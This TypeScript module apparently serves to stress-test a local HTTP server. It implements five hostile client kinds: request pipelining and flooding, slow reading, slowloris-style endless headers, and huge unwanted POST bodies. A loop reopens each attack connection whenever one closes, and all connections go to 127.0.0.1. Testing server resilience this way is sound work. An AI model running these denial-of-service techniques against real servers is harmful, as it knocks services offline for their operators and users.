import { connect, type Socket } from 'node:net';

/** Where an attack comes from and goes to. */
export interface Target {
  readonly port: number;
  /** The address that its connections come from. */
  readonly from: string;
  /** The path of a large file. */
  readonly large: string;
}

/** What an attack has done. */
export interface Totals {
  readonly connections: number;
  /** Bytes sent. */
  readonly bytes: number;
}

/** What an attack has done so far. */
export interface Tally {
  /** Connections that were opened. */
  connections: number;
  /** Bytes sent over connections that have ended. */
  bytes: number;
  /** Connections that are open. */
  readonly open: Set<Socket>;
}

/** Milliseconds between two small reads of a client that reads rarely. */
const betweenReads = 5_000;

const get = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${more}\r\n`;
const ahead = Buffer.from(get('/').repeat(2_000));
const within = get('/').repeat(16) + get('/', 'Connection: close\r\n');
const body = Buffer.alloc(64 * 1024, 'a');

/** Sends a chunk again and again, as fast as the other end takes it. */
function pour(socket: Socket, chunk: Buffer): void {
  const send = () => {
    while (socket.writable && socket.write(chunk));
  };
  socket.on('drain', send);
  send();
}

/** What each kind of hostile client does with a connection that it has. */
export const kinds = {
  /** Sends requests without end, and reads the answers. */
  pipelining: (socket: Socket) => pour(socket.resume(), ahead),
  /** Sends as many requests at once as may wait, and reads the answers. */
  flood: (socket: Socket) => void socket.resume().write(within),
  /** Asks for much, and reads a little now and then. */
  'slow reading': (socket: Socket, { large }: Target) => {
    socket.write(get(large).repeat(16));
    socket.pause();
    const timer = setInterval(() => {
      socket.once('data', () => socket.pause()).resume();
    }, betweenReads);
    socket.once('close', () => clearInterval(timer));
  },
  /** Sends a header that never ends, a byte at a time. */
  'slow headers': (socket: Socket) => {
    socket.resume().write('GET / HTTP/1.1\r\nHost: a\r\nA: ');
    const timer = setInterval(() => socket.write('a'), 500);
    socket.once('close', () => clearInterval(timer));
  },
  /** Sends a body that nobody wants. */
  bodies: (socket: Socket) => {
    socket.resume().write('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 999999999999\r\n\r\n');
    pour(socket, body);
  },
} as const satisfies Record<string, (socket: Socket, target: Target) => void>;

export type Kind = keyof typeof kinds;

/** Keeps one connection of a kind, and opens another as soon as it ends. */
export function keepAttacking(kind: Kind, target: Target, tally: Tally): void {
  const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: target.from });
  socket.on('error', () => {});
  socket.once('connect', () => {
    tally.connections++;
    tally.open.add(socket);
    kinds[kind](socket, target);
  });
  socket.once('close', () => {
    tally.open.delete(socket);
    tally.bytes += socket.bytesWritten;
    setImmediate(keepAttacking, kind, target, tally);
  });
}

/** The connections that were opened, and the bytes sent over them. */
export function totalsOf({ connections, bytes, open }: Tally): Totals {
  const sent = [...open].reduce((sum, { bytesWritten }) => sum + bytesWritten, bytes);
  return { connections, bytes: sent };
}
